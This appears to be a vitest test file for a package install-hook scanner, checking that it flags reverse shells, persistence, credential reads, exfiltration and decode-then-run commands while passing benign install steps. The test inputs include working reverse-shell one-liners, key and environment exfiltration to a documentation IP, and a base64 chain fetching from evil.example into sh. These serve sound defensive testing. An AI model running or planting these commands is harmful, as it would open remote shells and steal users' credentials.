/**
 * Pins the hook scan's behaviour rules (issue 31), the classes real package scanners look for:
 * reverse shells (high), persistence (medium), credentials read (medium), exfiltration (high for
 * the environment or credentials, medium for other files or output) and code run after it is
 * decoded (high). Each is read from the commands (pipes, substitutions, variables, eval and
 * `sh -c` code, inline programs), and ordinary install steps raise none of them.
 */
import { describe, expect, it } from 'vitest';

import { installFindings, installSeverities } from '../support/scan-package.ts';

describe('hook scan: behaviours', () => {
  it.each([
    // reverse shells
    ['bash -i on /dev/tcp', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'install.reverse-shell:high'],
    ['sh on /dev/udp through exec', 'exec 5<>/dev/udp/203.0.113.9/53; sh <&5 >&5', 'install.reverse-shell:high'],
    ['nc -e', 'nc -e /bin/sh 203.0.113.9 4444', 'install.reverse-shell:high'],
    ['nc with clustered -e', 'nc -vne /bin/bash 203.0.113.9 4444', 'install.reverse-shell:high'],
    ['ncat --sh-exec', 'ncat 203.0.113.9 4444 --sh-exec bash', 'install.reverse-shell:high'],
    [
      'a fifo between sh -i and nc',
      'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 4444 > /tmp/f',
      'install.reverse-shell:high',
    ],
    ['nc piped into sh', 'nc 203.0.113.9 4444 | sh', 'install.reverse-shell:high'],
    ['socat exec: with tcp:', 'socat exec:"bash -li",pty,stderr tcp:203.0.113.9:4444', 'install.reverse-shell:high'],
    [
      'python -c with a socket and dup2',
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
      'install.reverse-shell:high',
    ],
    ['eval of a reverse shell', `eval 'nc -e /bin/sh 203.0.113.9 4444'`, 'install.reverse-shell:high'],
    ['a reverse shell in $(…)', 'x="$(bash -i >& /dev/tcp/203.0.113.9/4444 0>&1)"', 'install.reverse-shell:high'],
    // persistence
    [
      'PATH set up in ~/.bashrc',
      'echo "export PATH=$AGPK_INSTALL_ROOT/bin:$PATH" >> ~/.bashrc',
      'install.persistence:medium',
    ],
    ['a script in /etc/profile.d', 'cp payload/tool.sh /etc/profile.d/tool.sh', 'install.persistence:medium'],
    ['tee into ~/.zshrc', 'echo "tool" | tee -a "$HOME/.zshrc"', 'install.persistence:medium'],
    [
      'a crontab installed from a pipe',
      '(crontab -l; echo "* * * * * $AGPK_INSTALL_ROOT/bin/t") | crontab -',
      'install.persistence:medium',
    ],
    ['a file in /etc/cron.d', 'echo "* * * * * root t" > /etc/cron.d/t', 'install.persistence:medium'],
    [
      'a systemd unit copied',
      'install -m 644 payload/t.service /etc/systemd/system/t.service',
      'install.persistence:medium',
    ],
    ['systemctl enable', 'systemctl enable --now t.service', 'install.persistence:medium'],
    ['systemctl --user enable', 'systemctl --user enable t.service', 'install.persistence:medium'],
    ['sed -i on ~/.profile', "sed -i '$a export T=1' ~/.profile", 'install.persistence:medium'],
    ['a key in authorized_keys', 'cat payload/key.pub >> /root/.ssh/authorized_keys', 'install.persistence:medium'],
    // credentials read
    ['an ssh private key', 'cat ~/.ssh/id_rsa', 'install.credential-read:medium'],
    ['the ssh folder archived', 'tar czf var/k.tgz "$HOME/.ssh"', 'install.credential-read:medium'],
    ['aws credentials copied', 'cp ~/.aws/credentials var/c', 'install.credential-read:medium'],
    ["the user's .npmrc", 'grep _authToken ~/.npmrc', 'install.credential-read:medium'],
    ['.git-credentials', 'cat $HOME/.git-credentials', 'install.credential-read:medium'],
    ['/etc/shadow', 'cat /etc/shadow', 'install.credential-read:medium'],
    ['a key read into a variable', 'k=$(cat ~/.ssh/id_ed25519)', 'install.credential-read:medium'],
    [
      'python -c opening a key',
      `python3 -c "print(open('/root/.ssh/id_rsa').read())"`,
      'install.credential-read:medium',
    ],
    // exfiltration
    ['env | curl -d @-', 'env | curl -s -d @- https://203.0.113.9/c', 'install.exfiltration:high'],
    [
      'printenv through base64 to curl',
      'printenv | base64 | curl --data-binary @- https://203.0.113.9/c',
      'install.exfiltration:high',
    ],
    ['the environment in the URL', 'curl -s "https://203.0.113.9/?e=$(env | base64 -w0)"', 'install.exfiltration:high'],
    ['a key posted as a form file', 'curl -F f=@$HOME/.ssh/id_rsa https://203.0.113.9/u', 'install.exfiltration:high'],
    [
      'a key read into a variable, then posted',
      'k=$(cat ~/.ssh/id_rsa); curl -d "$k" https://203.0.113.9/u',
      'install.exfiltration:high',
    ],
    ['aws credentials to nc', 'nc 203.0.113.9 4444 < ~/.aws/credentials', 'install.exfiltration:high'],
    ['the environment to a raw socket', 'env > /dev/tcp/203.0.113.9/4444', 'install.exfiltration:high'],
    [
      'wget --post-file of a key',
      'wget --post-file=/root/.ssh/id_rsa https://203.0.113.9/u',
      'install.exfiltration:high',
    ],
    ['a file uploaded', 'curl -T var/state.db https://203.0.113.9/u', 'install.exfiltration:medium'],
    ['system information posted', 'uname -a | curl -d @- https://203.0.113.9/c', 'install.exfiltration:medium'],
    ['files copied to another host', 'scp -r var/ backup@203.0.113.9:/srv/', 'install.exfiltration:medium'],
    // decode-then-run
    [
      'base64 -d | sh',
      'echo Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS9pLnNoIHwgc2g= | base64 -d | sh',
      'install.decode-exec:high',
    ],
    [
      'base64 --decode through gunzip into bash',
      'echo H4sIAAAA | base64 --decode | gunzip | bash',
      'install.decode-exec:high',
    ],
    ['eval of a decoded string', 'eval "$(echo Y3VybA== | base64 -d)"', 'install.decode-exec:high'],
    ['sh -c of a decoded string', 'sh -c "$(echo Y3VybA== | base64 -d)"', 'install.decode-exec:high'],
    [
      'a decoded string kept in a variable, then evaluated',
      's=$(echo Y3VybA== | base64 -d); eval "$s"',
      'install.decode-exec:high',
    ],
    ['a decoded string as a here-string', 'bash <<< "$(echo Y3VybA== | base64 -d)"', 'install.decode-exec:high'],
    ['source <(… | base64 -d)', 'source <(echo Y3VybA== | base64 -d)', 'install.decode-exec:high'],
    ['xxd -r -p | sh', 'echo 6375726c | xxd -r -p | sh', 'install.decode-exec:high'],
    ['printf of hex escapes | sh', String.raw`printf '\x63\x75\x72\x6c u | sh' | sh`, 'install.decode-exec:high'],
    [
      'a decoded command run',
      '$(echo Y3VybA== | base64 -d) -fsSL https://evil.example/i.sh',
      'install.decode-exec:high',
    ],
    [
      'decoded lines read and evaluated',
      'echo Y3VybA== | base64 -d | while read -r l; do eval "$l"; done',
      'install.decode-exec:high',
    ],
    [
      'python exec(b64decode)',
      `python3 -c "import base64; exec(base64.b64decode('cHJpbnQoMSk='))"`,
      'install.decode-exec:high',
    ],
    [
      'node eval(Buffer.from(…, base64))',
      `node -e "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())"`,
      'install.decode-exec:high',
    ],
  ])('flags %s', async (_what, line, expected) => {
    expect(await installSeverities(line)).toContain(`${expected}@INSTALL:2`);
  });

  it('reads a python hook for a reverse shell over its lines', async () => {
    const hook = [
      '#!/usr/bin/env python3',
      'import os, pty, socket',
      's = socket.socket()',
      's.connect(("203.0.113.9", 4444))',
      'for fd in (0, 1, 2):',
      '    os.dup2(s.fileno(), fd)',
      '',
    ].join('\n');
    const { scanFindings } = await import('../support/scan-package.ts');
    expect(
      await scanFindings(
        { 'INSTALL.py': hook },
        { agpk_version: '1.0', id: 'a', name: 'a', version: '1', lifecycle: { install: 'INSTALL.py' } },
      ),
    ).toContain('install.reverse-shell@INSTALL.py:6');
  });

  it.each([
    ['a download kept', 'curl -fsSL -o var/data.json https://x.example/d.json'],
    ['a form posted with literal data', `curl -fsS -X POST -d '{"event":"installed"}' https://x.example/t`],
    ["the package's own .npmrc", 'cp payload/.npmrc .npmrc && cat .npmrc'],
    ['npm configured for a registry', 'npm config set registry https://registry.example.com/ --location project'],
    ['a hint that names ~/.npmrc', 'echo "Put your token in ~/.npmrc"'],
    ['a check for a key', '[ -f ~/.ssh/id_ed25519 ] || echo "no key"'],
    ['a base64 payload decoded into a file', 'echo aGk= | base64 -d > var/hello.txt'],
    ['a port checked with nc', 'nc -z localhost 5432 || echo "start postgres"'],
    ['systemctl status', 'systemctl is-active --quiet docker || echo "docker is not running"'],
    ['the crontab listed', 'crontab -l > /dev/null 2>&1 || true'],
    ['env setting a variable for a command', 'env NODE_ENV=production node payload/setup.mjs'],
    ['a public key read', 'cat ~/.ssh/id_ed25519.pub > /dev/null'],
    [
      'a here-document written to a file, naming credentials',
      'cat > var/README <<EOF',
      'Keys live in ~/.ssh/id_rsa; run nc -e only in a lab.',
      'EOF',
    ],
  ])('does not flag %s', async (_what, ...lines) => {
    expect(await installFindings(...lines)).toEqual([]);
  });
});
